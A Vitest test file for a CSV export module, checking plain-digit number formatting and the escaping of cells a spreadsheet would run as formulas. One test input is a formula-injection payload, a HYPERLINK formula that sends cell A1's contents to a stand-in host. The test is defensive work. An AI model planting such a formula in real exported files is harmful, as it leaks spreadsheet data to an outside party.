import { describe, expect, it } from 'vitest';
import { csvStyleFrom, plainNumber, renderCsv } from './csv-format.js';

describe('CSV cells', () => {
  it('writes numbers as plain digits, never in exponent notation', () => {
    expect(plainNumber(16.37)).toBe('16.37');
    expect(plainNumber(1e-7)).toBe('0.0000001');
    expect(plainNumber(-1.2e-6)).toBe('-0.0000012');
    expect(plainNumber(2.5e21)).toBe('2500000000000000000000');
    expect(renderCsv(['nilai'], [[1.2e-7]], csvStyleFrom({ decimal: 'koma' }))).toBe('\uFEFFnilai\r\n0,00000012\r\n');
  });

  it('neutralises text a spreadsheet would run as a formula: a leading quote, in a quoted cell; numbers stay numbers', () => {
    const rows = [
      ['=HYPERLINK("http://x.example/?"&A1,"klik")', -1.5, '-tidak ada', '@SUM(A1)', '+62 812', '\tx', 'Badan Pusat Statistik'],
    ];
    const header = ['sumber', 'nilai', 'catatan', 'a', 'b', 'c', 'd'];
    expect(renderCsv(header, rows, csvStyleFrom({})).split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""klik"")",-1.5,"'-tidak ada","'@SUM(A1)","'+62 812","'\tx",Badan Pusat Statistik`,
    );
    expect(renderCsv(header, rows, csvStyleFrom({ decimal: 'comma' })).split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""klik"")";-1,5;"'-tidak ada";"'@SUM(A1)";"'+62 812";"'\tx";Badan Pusat Statistik`,
    );
  });
});
